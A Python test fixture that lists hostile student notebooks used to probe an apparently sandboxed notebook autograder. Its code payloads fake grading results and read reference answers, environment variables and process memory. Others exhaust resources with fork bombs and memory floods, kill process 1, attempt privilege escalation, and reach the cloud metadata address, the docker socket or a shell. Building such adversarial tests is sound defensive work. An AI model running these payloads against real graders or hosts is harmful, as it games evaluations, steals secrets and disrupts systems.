"""Hostile notebooks as a table: what each tries, as code, and nothing about how it is kept from succeeding.

Each is the student notebook with four exercises rightly written, worth WORTH points, and with an attack in it.
"""

# ruff: noqa: E501 - a row is a row

from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

WRITTEN = ("backprop_graph", "fork_by_hand", "predict", "update")
WORTH = 6 + 3 + 5 + 6


@dataclass(frozen=True)
class Attack:
    """One hostile notebook.

    kind: its class.  cell: code that runs as the notebook's first cell.  functions: exercises that try to gain
    their points, by name.  change: what is done to the notebook's JSON.  costs: whether it may cost its own points.
    """

    name: str
    kind: str
    cell: str = ""
    functions: dict[str, str] = field(default_factory=dict)
    change: Callable[[dict[str, Any]], object] | None = None
    costs: bool = False


def mse(body: str) -> dict[str, str]:
    """The exercise `mse`, whose right answer the attacker does not know."""
    return {"mse": "def mse(y_hat, y):\n" + "\n".join(f"    {line}" for line in body.splitlines())}


# Python that several attacks begin with.
FRAMES = """
import json, os, socket, stat, struct, sys
def channels():
    return [fd for fd in range(3, 128) if os.path.exists(f"/proc/self/fd/{fd}") or _is_socket(fd)]
def _is_socket(fd):
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode) or stat.S_ISFIFO(os.fstat(fd).st_mode)
    except OSError:
        return False
def send(header, body=b"", size=None):
    text = json.dumps(header).encode() if not isinstance(header, bytes) else header
    for fd in channels():
        try:
            os.write(fd, struct.pack(">II", len(text), len(body) if size is None else size) + text + body)
        except OSError:
            pass
"""
WORKER = """
import sys
def worker(function=None):
    frame = sys._getframe()
    while frame:
        if "Reference" in frame.f_globals and "zygote" in frame.f_globals:
            if function in (None, frame.f_code.co_name):
                return frame
        frame = frame.f_back
"""
CALL = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
"""


def code(source: str) -> dict[str, Any]:
    """A cell of the attacker's own."""
    return {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "id": "x", "source": source}


def points(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        if marks := cell["metadata"].get("nbgrader"):
            marks.update(points=1000, grade=True, solution=False, locked=False)


def checks(notebook: dict[str, Any]) -> list[dict[str, Any]]:
    return [c for c in notebook["cells"] if c["metadata"].get("nbgrader", {}).get("grade")]


def forged(notebook: dict[str, Any], text: str = "100") -> None:
    for cell in checks(notebook):
        cell["outputs"] = [
            {"output_type": "execute_result", "data": {"text/plain": text}, "metadata": {}, "execution_count": 1}
        ]


def deep(notebook: dict[str, Any]) -> None:
    for _ in range(400):
        notebook["metadata"] = {"deeper": notebook["metadata"]}


VERDICT = (
    Attack("patches numpy.testing", "verdict", "import numpy.testing as t\nfor n in dir(t):\n    if n.startswith('assert'): setattr(t, n, lambda *a, **k: None)", mse("return 0.0")),
    Attack("patches numpy", "verdict", "import numpy as np\nfor n in ('allclose', 'array_equal', 'isclose', 'all', 'mean'): setattr(np, n, lambda *a, **k: True)", mse("return 0.0"), costs=True),
    Attack("patches the comparison", "verdict", "import handrail.engine.verdict as c\nc.examine = lambda spec, *a, **k: c.Verdict(spec.name, 'right')\nc.Verdict.right = True", mse("return 0.0")),
    Attack("patches builtins", "verdict", "import builtins\nbuiltins.isinstance = lambda *a: True", mse("return 0.0"), costs=True),
    Attack("equals everything", "verdict", functions=mse("class Yes:\n    __eq__ = __le__ = __lt__ = __bool__ = lambda *a: True\n    __float__ = lambda s: 0.0\n    __sub__ = __rsub__ = lambda *a: 0.0\nreturn Yes()")),
    Attack("is an array that lies", "verdict", functions=mse("import numpy as np\nclass Liar(np.ndarray):\n    def __array_ufunc__(self, *a, **k): return np.zeros(())\n    def __sub__(self, other): return 0.0\nreturn np.zeros(()).view(Liar)")),
    Attack("is a float that lies", "verdict", functions=mse("class Liar(float):\n    __eq__ = lambda *a: True\n    __sub__ = __rsub__ = lambda *a: 0.0\nreturn Liar(3)")),
    Attack("is a text that equals all", "verdict", functions={"what_directs_the_search": "class T(str):\n    __eq__ = lambda *a: True\n    __hash__ = str.__hash__\n    casefold = strip = lambda s: s\ndef what_directs_the_search():\n    return T('A')"}),
    Attack("is a dictionary with every key", "verdict", functions={"one_step_by_hand": "class D(dict):\n    __missing__ = lambda s, k: 0.0\n    __contains__ = lambda *a: True\ndef one_step_by_hand():\n    return D()"}),
    Attack("returns all letters at once", "verdict", functions={"what_directs_the_search": "def what_directs_the_search():\n    return 'ABCD'", "random_search_scaling": "def random_search_scaling():\n    return {'A', 'B', 'C', 'D'}"}),
    Attack("returns nan", "verdict", functions=mse("return float('nan')")),
    Attack("returns infinity", "verdict", functions=mse("return float('inf')")),
    Attack("returns what cannot be compared", "verdict", functions=mse("return 10 ** 400") | {"same_path_rate": "def same_path_rate():\n    return 1e308"}),
    Attack("returns an object with a reducer", "verdict", functions=mse("class R:\n    def __reduce__(self): return (print, ('unpickled',))\nreturn R()")),
    Attack("returns itself", "verdict", functions=mse("a = []\na.append(a)\nreturn a")),
    Attack("returns masked numbers", "verdict", functions=mse("import numpy as np\nreturn np.ma.masked_array([0.0], [True])")),
    Attack("prints a score", "verdict", "print('100')\nimport sys\nsys.displayhook = lambda *a: print(100)\n100", mse("print(100)\nreturn 100")),
    Attack("registers a formatter", "verdict", "get_ipython().display_formatter.formatters['text/plain'].for_type(float, lambda *a: '100')", mse("return 0.0")),
    Attack("rewrites cells by a transformer", "verdict", "ip = get_ipython()\nip.input_transformers_cleanup.append(lambda lines: [])\nip.ast_transformers.append(lambda tree: tree)", mse("return 0.0")),
    Attack("hooks before every cell", "verdict", "get_ipython().events.register('pre_run_cell', lambda *a: None)\nget_ipython().run_cell = lambda *a, **k: 100", mse("return 0.0")),
    Attack("shadows numpy by a file", "verdict", "for n in ('numpy', 'handrail', 'sitecustomize', 'fence', 'wire', 'worker'):\n    open(n + '.py', 'w').write('print(100)')\nimport sys\nsys.path.insert(0, '.')", mse("return 0.0")),
    Attack("forges outputs", "verdict", functions=mse("return 0.0"), change=forged),
    Attack("forges an output that is no number", "verdict", functions=mse("return 0.0"), change=lambda n: forged(n, "nan")),
    Attack("forges a negative output", "verdict", functions=mse("return 0.0"), change=lambda n: forged(n, "-1")),
    Attack("gives itself points", "verdict", functions=mse("return 0.0"), change=points),
    Attack("tags checks to be skipped", "verdict", functions=mse("return 0.0"), change=lambda n: [c["metadata"].update(tags=["skip-execution"]) for c in checks(n)]),
    Attack("rewrites the checks", "verdict", functions=mse("return 0.0"), change=lambda n: [c.update(source="100") for c in checks(n)]),
    Attack("repeats a check", "verdict", functions=mse("return 0.0"), change=lambda n: n["cells"].extend(checks(n)[:3] * 5)),
    Attack("takes another check's id", "verdict", functions=mse("return 0.0"), change=lambda n: [c["metadata"]["nbgrader"].update(grade_id="check-update") or c.update(id="check-update") for c in checks(n)]),
    Attack("is of an unknown schema", "verdict", functions=mse("return 0.0"), change=lambda n: [c["metadata"]["nbgrader"].update(schema_version=99) for c in checks(n)]),
    Attack("names another kernel", "verdict", functions=mse("return 0.0"), change=lambda n: n["metadata"].update(kernelspec={"name": "bash", "display_name": "x", "language": "bash"})),
    Attack("nests its metadata", "verdict", functions=mse("return 0.0"), change=deep),
)  # fmt: skip

ANSWERS = (
    Attack("reads the reference", "answers", functions=mse("import glob\nfor path in glob.glob('/**/solutions/*.py', recursive=True) + glob.glob('/work/**/univariate.py', recursive=True):\n    exec(open(path).read(), globals())\n    return globals()['mse'](y_hat, y)\nreturn 0.0")),
    Attack("imports the reference", "answers", functions=mse("import sys\nsys.path += ['/work/main', '..', '/workspace', '/src']\nimport solutions.univariate as s\nreturn s.mse(y_hat, y)")),
    Attack("tries every letter against the key", "answers", functions={"what_directs_the_search": "def what_directs_the_search():\n    import json, glob\n    from handrail.engine.values import hashed\n    text = ''.join(open(p).read() for p in glob.glob('/site/handrail/keys/*') + glob.glob('/**/keys/*.json', recursive=True))\n    return next((c for c in 'ABCD' if hashed('str', c.casefold()) in text), 'A')"}),
    Attack("asks handrail's own check", "answers", functions={"what_directs_the_search": "def what_directs_the_search():\n    import handrail.desk.checking as h\n    for letter in 'ABCD':\n        try:\n            def what_directs_the_search(): return letter\n            h.check(what_directs_the_search, 'univariate')\n            return letter\n        except Exception:\n            pass\n    return 'A'"}),
    Attack("looks for the answer in frames", "answers", functions=mse("import sys\nf = sys._getframe()\nwhile f:\n    for v in list(f.f_locals.values()) + list(f.f_globals.values()):\n        if hasattr(v, 'expected'): return v.expected[0]\n    f = f.f_back\nreturn 0.0")),
    Attack("looks for the answer in memory", "answers", functions=mse("import gc\nfor o in gc.get_objects():\n    if type(o).__name__ in ('Paper', 'Spec', 'Exercise') and hasattr(o, 'expected'): return o.expected[0]\nreturn 0.0")),
    Attack("asks for a reference that was not offered", "answers", WORKER, mse("f = worker('exercise')\nask = f.f_globals['Reference'](f.f_globals['Line'](f.f_locals['up_in']), 'mse')\nreturn ask(y_hat, y)")),
    Attack("asks for references by number", "answers", WORKER, mse("f = worker('exercise')\nfor fd in (f.f_locals['line'].fd, f.f_locals['up_in'], f.f_locals['up_out']):\n    for n in range(-3, 20):\n        try: return f.f_globals['Reference'](f.f_globals['Line'](fd), n)(y_hat, y)\n        except Exception: pass\nreturn 0.0")),
    Attack("keeps what a reference says for later", "answers", "import json, os, threading\nSTORE = '/tmp/store'", mse("import os, json\nreturn json.load(open(STORE)) if os.path.exists(STORE) else 0.0") | {"random_search": "def random_search(x, y, num_samples, rng, low=-5.0, high=5.0):\n    json.dump(float(mse(x, y)), open(STORE, 'w'))\n    return 0.0, 0.0, 0.0"}),
    Attack("reads the parent's memory", "answers", functions=mse("import os\nfor pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n    try: print(open(f'/proc/{pid}/mem', 'rb').read(1))\n    except OSError: pass\nreturn 0.0")),
    Attack("traces process 1", "answers", CALL, mse("print('traced', libc.ptrace(16, 1, 0, 0), libc.ptrace(16, __import__('os').getppid(), 0, 0))\nreturn 0.0")),
    Attack("reads process 1 by vector", "answers", CALL, mse("b = ctypes.create_string_buffer(64)\nprint('read', libc.process_vm_readv(1, ctypes.byref(b), 1, ctypes.byref(b), 1, 0))\nreturn 0.0")),
    Attack("reads the environment", "answers", "import os\nprint(dict(os.environ))\nfor p in os.listdir('/proc'):\n    try: print(open(f'/proc/{p}/environ').read())\n    except OSError: pass"),
    Attack("reads all files", "answers", "import os, time\nend = time.time() + 1\nfor root in ('/root', '/home', '/etc', '/var', '/work', '/srv', '/mnt', '/tmp', '/run'):\n    for folder, _, files in os.walk(root):\n        for f in files:\n            if time.time() < end and 'python3' not in folder:\n                try: print(open(os.path.join(folder, f), errors='replace').read(3000))\n                except OSError: pass"),
    Attack("reads other submissions", "answers", "import glob\nfor p in glob.glob('/**/*.ipynb', recursive=True) + glob.glob('../**/*', recursive=True)[:500]: print(p)"),
    Attack("opens files by handle", "answers", CALL + "print('opened', libc.open_by_handle_at(-100, 0, 0))"),
    Attack("knows the key by heart", "answers"),
    Attack("keeps what references say for an answer on paper", "answers", functions={"gradient_descent": "def gradient_descent(x, y, w, b, learning_rate, num_iterations):\n    from handrail import data\n    x, y = data.line()\n    w = b = 0.0\n    for _ in range(200): w, b = update(w, b, *gradients(x, y, predict(x, w, b)), 0.3)\n    open('/tmp/kept', 'w').write(repr((float(mse(predict(x, w, b), y)), float(mse(predict(x, 2.0, -1.0), y)))))\n    raise ValueError", "lower_than_the_true_line": "def lower_than_the_true_line():\n    fitted, true = eval(open('/tmp/kept').read())\n    return {'reason': 'B', 'fitted': fitted, 'true': true}"}),
)  # fmt: skip

PROTOCOL = (
    Attack("answers before it is asked", "protocol", FRAMES + "send({'op': 'answer', 'nonce': 0, 'value': 1.0, 'changed': [], 'printed': False})", costs=True),
    Attack("closes the submission itself", "protocol", FRAMES + "send({'op': 'submission closed', 'by': 'zygote', 'left': False, 'reason': 'close'})", costs=True),
    Attack("says for the next one that nothing is defined", "protocol", FRAMES + "import threading, time\ndef flood():\n    while True:\n        for h in ({'op': 'ran', 'by': 'submission'}, {'op': 'begun', 'defined': False}, {'op': 'exercise closed'}, {'op': 'submission closed', 'by': 'zygote'}): send(h)\nthreading.Thread(target=flood, daemon=True).start()", costs=True),
    Attack("says that it is ready", "protocol", FRAMES + "send({'op': 'ready', 'by': 'zygote'})", costs=True),
    Attack("announces four gigabytes", "protocol", FRAMES + "send({'op': 'ran'}, size=2**32 - 1)", costs=True),
    Attack("announces what never comes", "protocol", FRAMES + "send({'op': 'ran'}, size=1 << 20)", costs=True),
    Attack("sends JSON without an end", "protocol", FRAMES + "send(b'[' * 500000)", costs=True),
    Attack("sends what is no JSON", "protocol", FRAMES + "send(bytes(range(256)))", costs=True),
    Attack("sends half characters", "protocol", FRAMES + "send(b'{\"op\": \"\\\\ud800\"}')", costs=True),
    Attack("sends random bytes", "protocol", FRAMES + "for fd in channels():\n    try: os.write(fd, os.urandom(5000))\n    except OSError: pass", costs=True),
    Attack("sends frames without end", "protocol", FRAMES, mse("while True: send({'op': 'cell', 'cell': 'x'})"), costs=True),
    Attack("asks without end", "protocol", FRAMES + WORKER, mse("while True: send({'op': 'ask', 'name': 'predict', 'values': [['l', []], ['d', []]]})"), costs=True),
    Attack("answers with an array beyond its frame", "protocol", WORKER, mse("worker().f_globals['wire'].encode = lambda *a, **k: ['a', '<f8', [10**9], 0]\nreturn 0.0")),
    Attack("answers with objects", "protocol", WORKER, mse("worker().f_globals['wire'].encode = lambda *a, **k: ['a', '|O', [1], 0]\nreturn 0.0")),
    Attack("answers with eight megabytes", "protocol", functions=mse("import numpy as np\nreturn np.zeros(1 << 20)")),
    Attack("answers every question with eight megabytes", "protocol", functions={"local_gradient": "def local_gradient(op, a, b=None):\n    import numpy as np\n    return np.zeros(8_000_000, np.int8)"}),
    Attack("writes to a terminal", "protocol", "raise ValueError('\\x1b]0;attacked\\x07\\x1b[2J [/]')", mse("raise type('[/] \\x1b[2J', (Exception,), {})('\\x1b]0;attacked\\x07 [/bold] \\u202e \\x9b2J')")),
    Attack("answers with a gigabyte", "protocol", functions=mse("import numpy as np\nreturn np.zeros(1 << 27)")),
    Attack("answers with a million nodes", "protocol", functions=mse("return [[]] * 1000000")),
    Attack("has an endless name", "protocol", functions=mse("return type('x' * 10**6, (), {})()")),
    Attack("raises an exception that misbehaves", "protocol", functions=mse("class E(Exception):\n    def __str__(self): raise SystemExit\nraise E")),
    Attack("raises an endless message", "protocol", functions=mse("raise ValueError('x' * 10**8)")),
    Attack("hides its changes from the worker", "protocol", WORKER, mse("worker().f_globals['same'] = lambda *a: True\ny_hat += 1\nreturn 0.0")),
    Attack("overwrites the worker", "protocol", WORKER + "w = worker().f_globals\nfor n in ('session', 'exercise', 'called'): w[n] = lambda *a, **k: None\nfor n in ('encode', 'decode', 'frame', 'send', 'write', 'ready'): setattr(w['wire'], n, lambda *a, **k: None)", costs=True),
    Attack("closes all descriptors", "protocol", "import os\nos.closerange(0, 200)", costs=True),
    Attack("changes the descriptors' flags", "protocol", "import fcntl, os\nfor fd in range(0, 100):\n    try: fcntl.fcntl(fd, fcntl.F_SETFL, os.O_NONBLOCK | os.O_APPEND)\n    except OSError: pass", costs=True),
    Attack("asks a reference for too much", "protocol", functions={"random_search": "def random_search(x, y, num_samples, rng, low=-5.0, high=5.0):\n    import numpy as np\n    for _ in range(3):\n        try: mse(np.ones((1, 30000)), np.ones((30000, 1)))\n        except Exception as e: print(e)\n    try: predict(3, 10 ** 15, np.ones(900000))\n    except Exception: pass\n    return mse(), 0.0, 0.0"}),
    Attack("asks a reference with nonsense", "protocol", functions={"random_search": "def random_search(x, y, num_samples, rng, low=-5.0, high=5.0):\n    for args in ((), ('a',) * 9, (None, [[[]]]), ({'a': 1},), (print, len), (rng, rng)):\n        try: mse(*args)\n        except Exception: pass\n        try: predict(**{'x y': 1})\n        except Exception: pass\n    return 0.0, 0.0, 0.0"}),
)  # fmt: skip

RESOURCES = (
    Attack("forks without end", "resources", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", costs=True),
    Attack("forks in a function", "resources", functions=mse("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass")),
    Attack("starts threads without end", "resources", "import threading, time\nfor _ in range(10000): threading.Thread(target=time.sleep, args=(100,), daemon=True).start()", costs=True),
    Attack("fills the memory", "resources", "x = []\nwhile True: x.append(bytearray(1 << 26))", costs=True),
    Attack("fills the memory in a function", "resources", functions=mse("import numpy as np\nx = []\nwhile True: x.append(np.ones(1 << 22))")),
    Attack("fills the memory with processes", "resources", "import os, time\nfor _ in range(40):\n    if os.fork() == 0:\n        x = bytearray(1 << 30)\n        for i in range(0, 1 << 30, 4096): x[i] = 1\n        time.sleep(100)", costs=True),
    Attack("fills the temporary folder", "resources", "for i in range(1000):\n    with open(f'/tmp/{i}', 'wb') as f:\n        try: f.write(bytes(1 << 23))\n        except OSError: pass"),
    Attack("makes a hundred thousand files", "resources", "for i in range(100000): open(f'/tmp/{i}', 'w').close()", costs=True),
    Attack("makes folders without a bottom", "resources", "import os\nfor _ in range(5000):\n    os.mkdir('d'); os.chdir('d')"),
    Attack("makes the temporary folder its own", "resources", "import os\nfor mode in (0, 0o500):\n    try: os.chmod('/tmp', mode)\n    except OSError: pass\ntry: os.rename('/tmp', '/other')\nexcept OSError: pass"),
    Attack("opens all descriptors", "resources", "import os\nx = []\ntry:\n    while True: x.append(os.open('/dev/null', 0))\nexcept OSError: pass", costs=True),
    Attack("prints without end", "resources", "while True: print('x' * 10000)"),
    Attack("prints a line of 100 MB", "resources", "print('x' * 10**8)"),
    Attack("prints past Python", "resources", "import os\ntry:\n    while True: os.write(1, b'x' * 65536)\nexcept OSError: pass"),
    Attack("loops", "resources", "while True: pass"),
    Attack("loops and catches all", "resources", "while True:\n    try:\n        while True: pass\n    except BaseException: pass", costs=True),
    Attack("loops in C", "resources", "x = 3 ** (10 ** 9)", costs=True),
    Attack("loops in a function and catches all", "resources", functions=mse("while True:\n    try:\n        while True: pass\n    except BaseException: pass")),
    Attack("blocks all signals", "resources", "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass", costs=True),
    Attack("sleeps in every function", "resources", functions={n: f"def {n}(*a, **k):\n    import time\n    time.sleep(100)" for n in ("mse", "gradients")}),
    Attack("recurses into the ground", "resources", "import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()", costs=True),
    Attack("crashes", "resources", "import ctypes\nctypes.string_at(0)", costs=True),
    Attack("crashes in a function", "resources", functions=mse("import ctypes\nctypes.string_at(0)")),
    Attack("aborts", "resources", "import os\nos.abort()", costs=True),
    Attack("exits", "resources", "import os\nos._exit(0)", costs=True),
    Attack("exits in every function", "resources", functions={n: f"def {n}(*a, **k):\n    import os\n    os._exit(0)" for n in ("mse", "gradients", "local_gradient", "gradient_descent")}),
    Attack("kills its parents", "resources", functions=mse("import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\nos.kill(1, signal.SIGKILL)")),
    Attack("kills all", "resources", functions=mse("import os, signal\nos.kill(-1, signal.SIGKILL)\nreturn 0.0")),
    Attack("stops all", "resources", functions=mse("import os, signal\nos.kill(1, signal.SIGSTOP)\nos.kill(-1, signal.SIGSTOP)\nreturn 0.0"), costs=True),
    Attack("sends every signal to process 1", "resources", "import os, signal\nfor s in signal.valid_signals():\n    for _ in range(10):\n        try: os.kill(1, s)\n        except OSError: pass"),
    Attack("limits process 1", "resources", CALL + "import os, resource\nfor r in range(16):\n    try: print('limited', resource.prlimit(1, r, (1, 1)))\n    except OSError: pass"),
    Attack("slows process 1", "resources", CALL + "import os\nfor f in (lambda: os.sched_setaffinity(1, {0}), lambda: os.setpriority(os.PRIO_PROCESS, 1, 19), lambda: os.setpriority(os.PRIO_USER, 0, 19), lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0))):\n    try: print('slowed', f())\n    except OSError: pass"),
    Attack("runs in sessions of its own", "resources", "import os\nfor _ in range(60):\n    if os.fork() == 0:\n        os.setsid()\n        while True: pass", costs=True),
    Attack("begins a frame, then fills the memory", "resources", FRAMES + "send({'op': 'ran'}, size=9)\nimport time\nfor _ in range(60):\n    if os.fork() == 0:\n        x = bytearray(1 << 29)\n        for i in range(0, len(x), 4096): x[i] = 1\n        time.sleep(100)\ntime.sleep(2)", costs=True),
    Attack("prints in thousands of cells", "resources", change=lambda n: n["cells"].extend(code(f"print(chr(128512) * 9999)  # {i}") for i in range(4_500))),
    Attack("uses up what the machine has few of", "resources", CALL + "for n in (206, 253, 294):\n    if libc.syscall(n, 8, ctypes.byref(ctypes.c_ulong())) >= 0: print('limited (')"),
    Attack("holds half a conflict", "resources", change=lambda n: n["cells"].append(code("<<<<<<< mine\n" * 30_000))),
    Attack("is slow to look at", "resources", change=lambda n: n["cells"].extend(code("v = [" + "a, " * 15_000 + f"{i}]") for i in range(9))),
    Attack("holds a million lists", "resources", change=lambda n: n["metadata"].update(lists=[[]] * 1_200_000), costs=True),
    Attack("holds more code than a frame", "resources", change=lambda n: n["cells"].append(code(f"v = '{'x' * 1_000_000}'")), costs=True),
    Attack("compresses itself", "resources", functions=mse("import zlib\nreturn zlib.decompress(zlib.compress(bytes(10**8))).hex()")),
)  # fmt: skip

OUTSIDE = (
    Attack("leaves a process", "outside", "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        while True: time.sleep(0.1)\n    os._exit(0)"),
    Attack("leaves a process that adopts others", "outside", CALL + "libc.prctl(36, 1, 0, 0, 0)\nlibc.prctl(1, 0, 0, 0, 0)\nimport os, time\nif os.fork() == 0:\n    os.setsid()\n    while True: time.sleep(0.1)"),
    Attack("leaves a program", "outside", "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'while True: pass'], start_new_session=True)"),
    Attack("leaves things for the exit", "outside", "import atexit, os\natexit.register(lambda: open('/tmp/attacked', 'w'))\nclass D:\n    def __del__(self): open('/tmp/attacked', 'w')\nd = D()\nos.register_at_fork(before=lambda: open('/tmp/attacked', 'w'), after_in_child=lambda: None)"),
    Attack("leaves a thread", "outside", "import threading, time\nthreading.Thread(target=lambda: [time.sleep(0.01) for _ in range(10**6)]).start()"),
    Attack("leaves shared memory", "outside", CALL + "print('shared', libc.shmget(7, 4096, 0o1777), libc.mq_open(b'/attacked', 66, 0o666, 0), libc.semget(7, 1, 0o1777))"),
    Attack("leaves a key", "outside", CALL + "print('key', libc.syscall(248, b'user', b'attacked', b'x', 1, -3))"),
    Attack("leaves an abstract socket", "outside", "import os, socket, time\nif os.fork() == 0:\n    s = socket.socket(socket.AF_UNIX)\n    s.bind(chr(0) + 'attacked')\n    s.listen()\n    time.sleep(100)"),
    Attack("writes everywhere", "outside", "import os\nfor folder in ('/', '/site', '/usr/lib', '/dev', '/proc/sys/kernel', '/root', '/work/main', '/home', '/etc', '/sys', os.path.dirname(os.__file__), '/var/tmp', '/dev/shm'):\n    try:\n        open(folder + '/attacked', 'w').write('x')\n        print('wrote', folder)\n    except OSError: pass"),
    Attack("writes to the worker's file", "outside", "for path in ('/inside/fence/worker.py', '/inside/fence/wire.py', '/site/handrail/__init__.py', '/site/numpy/__init__.py'):\n    try:\n        open(path, 'a').write('print(100)')\n        print('wrote', path)\n    except OSError: pass"),
    Attack("mounts", "outside", CALL + "print('mounted', libc.mount(b'proc', b'/tmp', b'proc', 0, 0), libc.mount(b'none', b'/', b'', 32, 0), libc.umount2(b'/proc', 2))"),
    Attack("makes namespaces", "outside", CALL + "print('unshared', libc.unshare(0x10000000), libc.unshare(0x40000000), libc.setns(0, 0))\nprint('cloned', libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0))"),
    Attack("becomes root", "outside", "import os\nfor f in (os.setuid, os.seteuid, os.setgid):\n    try:\n        f(0)\n        print('root')\n    except OSError: pass"),
    Attack("loads a program into the kernel", "outside", CALL + "print('loaded', libc.syscall(321, 5, 0, 0), libc.syscall(425, 8, 0), libc.syscall(323, 0), libc.syscall(298, 0, 0, -1, -1, 0))"),
    Attack("uses another table of calls", "outside", CALL, mse("return float(libc.syscall(0x40000000 + 39))")),
    Attack("connects to this machine", "outside", "import socket\nfor family in (socket.AF_INET, socket.AF_INET6):\n    for host in ('127.0.0.1', '::1', '169.254.169.254', '192.0.2.1'):\n        try:\n            socket.socket(family).connect((host, PORT))\n            print('connected')\n        except (OSError, UnicodeError): pass"),
    Attack("connects to a socket of this machine", "outside", "import socket, glob\nfor path in [SOCKET, chr(0) + SOCKET, '/run/docker.sock', '/var/run/dbus/system_bus_socket', '/tmp/.X11-unix/X0']:\n    try:\n        socket.socket(socket.AF_UNIX).connect(path)\n        print('connected')\n    except OSError: pass"),
    Attack("asks for names", "outside", "import socket, urllib.request\nfor f in (lambda: socket.gethostbyname('example.org'), lambda: urllib.request.urlopen('http://example.org', timeout=1)):\n    try:\n        f()\n        print('connected')\n    except OSError: pass"),
    Attack("installs a package", "outside", "!pip install requests\nimport subprocess, sys\nprint('pip', subprocess.run([sys.executable, '-m', 'pip', '--version']).returncode == 0)\ntry:\n    import ensurepip\n    print('pip', ensurepip.version())\nexcept ImportError: pass"),
    Attack("runs a shell", "outside", "%%bash\necho connected > /attacked"),
    Attack("runs programs of this machine", "outside", "import os\nfor p in ('/bin/sh', '/usr/bin/env', '/usr/bin/python3', '/bin/bash', '/usr/bin/curl'):\n    if os.path.exists(p): print('program', p)"),
    Attack("is a page with a script", "outside", change=lambda n: n["cells"].append({"cell_type": "markdown", "metadata": {}, "id": "x", "source": "<script>steal()</script> [x](javascript:steal())"})),
)  # fmt: skip

ATTACKS = (*VERDICT, *ANSWERS, *PROTOCOL, *RESOURCES, *OUTSIDE)
